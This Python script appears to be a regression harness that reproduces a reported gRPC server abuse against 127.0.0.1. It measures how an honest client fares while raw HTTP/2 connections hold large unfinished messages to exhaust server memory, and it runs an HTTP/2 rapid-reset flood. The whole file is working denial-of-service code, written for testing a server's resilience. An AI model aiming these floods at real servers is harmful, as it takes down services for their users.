"""Abuse a gRPC server the way issue #16 did, and count what an honest client still gets.

  memory: CONNECTIONS raw HTTP/2 connections (python3-h2) each open STREAMS calls of
          GrpcService/hello, declare a SIZE-byte message and send all of it but its last 100 KB,
          never finishing; meanwhile an honest client (python3-grpcio, its own connection, in
          its own process so that the attackers' threads do not take its interpreter) makes
          hello calls without pause. Prints the honest client's successes and failures and what
          became of the abusive streams, and samples the server's RSS (VmRSS, VmHWM) by PID.
  reset:  one connection opens and resets streams (HEADERS + RST_STREAM) until the server cuts
          it off or MAX resets were sent; prints how many it sent.

Traffic goes to 127.0.0.1 only, and every part is bounded in time or count.
Usage: abuse.py memory PORT SERVER_PID [CONNECTIONS STREAMS SIZE SECONDS]
       abuse.py honest PORT SECONDS   (the honest client alone; memory starts it)
       abuse.py reset PORT [MAX]
"""
import json
import socket
import struct
import subprocess
import sys
import threading
import time

import grpc
import h2.config
import h2.connection
import h2.events
import h2.exceptions

HELLO = "/GrpcService/hello"
# HelloRequest{data: "xiao gang", skill: {name: "engineer"}}
REQUEST = b"\x0a\x09xiao gang\x12\x0a\x0a\x08engineer"
HEADERS = [(":method", "POST"), (":scheme", "http"), (":authority", "127.0.0.1"),
           (":path", HELLO), ("content-type", "application/grpc"), ("te", "trailers")]


def connect(port):
    sock = socket.create_connection(("127.0.0.1", port))
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def pump(sock, conn, outcome, timeout):
    """Reads what the server sent within timeout; False once the connection is gone."""
    sock.settimeout(timeout)
    try:
        data = sock.recv(1 << 20)
    except (socket.timeout, BlockingIOError):
        return True
    except OSError:
        return False
    if not data:
        return False
    for event in conn.receive_data(data):
        if isinstance(event, h2.events.StreamReset):
            outcome["reset"] = outcome.get("reset", 0) + 1
        elif isinstance(event, h2.events.TrailersReceived) or (
                isinstance(event, h2.events.ResponseReceived) and event.stream_ended):
            status = dict((k.decode(), v.decode()) for k, v in event.headers).get("grpc-status")
            outcome["status " + str(status)] = outcome.get("status " + str(status), 0) + 1
        elif isinstance(event, h2.events.ConnectionTerminated):
            outcome["goaway"] = event.error_code
            outcome["last stream"] = event.last_stream_id
        elif isinstance(event, h2.events.DataReceived):
            conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
    try:
        sock.sendall(conn.data_to_send())
    except OSError:
        return False
    return True


def abusive_connection(port, streams, size, until, outcome):
    sock, conn = connect(port)
    left = {}
    for i in range(streams):
        stream = conn.get_next_available_stream_id()
        try:
            conn.send_headers(stream, HEADERS)
            conn.send_data(stream, b"\x00" + struct.pack(">I", size))
        except h2.exceptions.ProtocolError:
            break  # the server's stream limit
        left[stream] = size - 100_000
    sock.sendall(conn.data_to_send())
    chunk = b"\x00" * 16384
    alive = True
    while alive and time.time() < until:
        sent = False
        for stream in list(left):
            try:
                window = min(conn.local_flow_control_window(stream), left[stream], len(chunk))
            except (h2.exceptions.StreamClosedError, KeyError):
                del left[stream]
                continue
            if window > 0:
                try:
                    conn.send_data(stream, chunk[:window])
                except h2.exceptions.StreamClosedError:
                    del left[stream]
                    continue
                left[stream] -= window
                sent = True
                if left[stream] == 0:
                    del left[stream]
        try:
            sock.sendall(conn.data_to_send())
        except OSError:
            break
        alive = pump(sock, conn, outcome, 0.0 if sent else 0.2)
    while alive and time.time() < until:  # hold what the server buffered
        alive = pump(sock, conn, outcome, 0.5)
    outcome["closed by server"] = not alive
    sock.close()


def honest_client(port, seconds):
    until = time.time() + seconds
    counts = {"ok": 0, "failed": 0}
    channel = grpc.insecure_channel("127.0.0.1:%d" % port)
    hello = channel.unary_unary(HELLO)
    while time.time() < until:
        try:
            hello(REQUEST, timeout=5)
            counts["ok"] += 1
        except grpc.RpcError as e:
            counts["failed"] += 1
            counts.setdefault("first failure", str(e.code()) + " " + str(e.details())[:100])
    channel.close()
    print(json.dumps(counts))


def rss(pid):
    fields = {}
    with open("/proc/%d/status" % pid) as status:
        for line in status:
            key, _, value = line.partition(":")
            fields[key] = value.strip()
    return fields.get("VmRSS"), fields.get("VmHWM")


def memory(port, pid, connections=3, streams=100, size=4_000_000, seconds=30):
    until = time.time() + seconds
    outcomes = [{} for _ in range(connections)]
    threads = [threading.Thread(target=abusive_connection,
                                args=(port, streams, size, until, outcomes[i]))
               for i in range(connections)]
    print("before: VmRSS %s, VmHWM %s" % rss(pid))
    honest = subprocess.Popen([sys.executable, __file__, "honest", str(port), str(seconds)],
                              stdout=subprocess.PIPE, text=True)
    for t in threads:
        t.start()
    peak = 0
    while honest.poll() is None or any(t.is_alive() for t in threads):
        now, _ = rss(pid)
        peak = max(peak, int(now.split()[0]))
        time.sleep(0.5)
    counts = json.loads(honest.stdout.read())
    print("abusive connections: %s" % outcomes)
    print("honest client: %d ok, %d failed%s" % (
        counts["ok"], counts["failed"],
        "" if "first failure" not in counts else " (first: %s)" % counts["first failure"]))
    print("server RSS: peak sampled %d MB; VmHWM now %s" % (peak // 1024, rss(pid)[1]))


def reset(port, most=100_000):
    sock, conn = connect(port)
    sent = 0
    outcome = {}
    alive = True
    while alive and sent < most:
        stream = conn.get_next_available_stream_id()
        conn.send_headers(stream, HEADERS)
        conn.reset_stream(stream)
        try:
            sock.sendall(conn.data_to_send())
        except OSError:
            break
        sent += 1
        if sent % 50 == 0:
            alive = pump(sock, conn, outcome, 0.0)
    give_up = time.time() + 5
    while alive and "goaway" not in outcome and time.time() < give_up:
        alive = pump(sock, conn, outcome, 1.0)
    last = outcome.get("last stream")
    if "goaway" not in outcome:
        print("rapid reset: %d streams opened and reset; the connection was never cut off" % sent)
        sock.close()
        return
    # grpc-java's first GOAWAY names the largest stream ID, not the last one it processed.
    took = "" if last is None or last >= 2**31 - 1 else " after %d streams" % ((last + 1) // 2)
    print("rapid reset: the server sent GOAWAY (error code %s)%s; the client had written %d"
          " resets by the time it read it" % (outcome.get("goaway"), took, sent))
    sock.close()


if __name__ == "__main__":
    if sys.argv[1] == "honest":
        honest_client(int(sys.argv[2]), float(sys.argv[3]))
    elif sys.argv[1] == "memory":
        memory(int(sys.argv[2]), int(sys.argv[3]), *[int(a) for a in sys.argv[4:]])
    else:
        reset(int(sys.argv[2]), *[int(a) for a in sys.argv[3:]])
